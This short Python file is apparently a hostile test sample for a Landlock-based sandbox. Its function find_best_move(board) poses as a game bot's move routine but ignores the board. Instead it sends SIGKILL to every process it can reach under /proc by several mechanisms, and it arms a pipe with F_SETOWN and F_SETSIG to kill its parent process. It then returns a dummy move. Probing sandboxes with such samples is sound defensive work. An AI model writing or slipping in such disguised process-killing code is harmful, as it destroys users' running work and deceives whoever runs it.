# idea: signals its parent and every process of its user by queues, threads, descriptors and a pipe's owner
# verdict: accepted
# needs: landlock
import ctypes
import fcntl
import os
import signal


def find_best_move(board):
    libc = ctypes.CDLL(None, use_errno=True)
    others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    own = os.getpid()
    for number in others:
        if number in (own, 1):
            continue
        libc.sigqueue(number, signal.SIGKILL, None)
        libc.tgkill(number, number, signal.SIGKILL)
        try:
            process = os.pidfd_open(number)
        except OSError:
            continue
        try:
            signal.pidfd_send_signal(process, signal.SIGKILL)
        except OSError:
            pass
        os.close(process)
    ready, go = os.pipe()
    try:
        fcntl.fcntl(ready, fcntl.F_SETOWN, os.getppid())
        fcntl.fcntl(ready, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(ready, fcntl.F_SETFL, os.O_ASYNC)
        os.write(go, b"x")
    except OSError:
        pass
    return 3
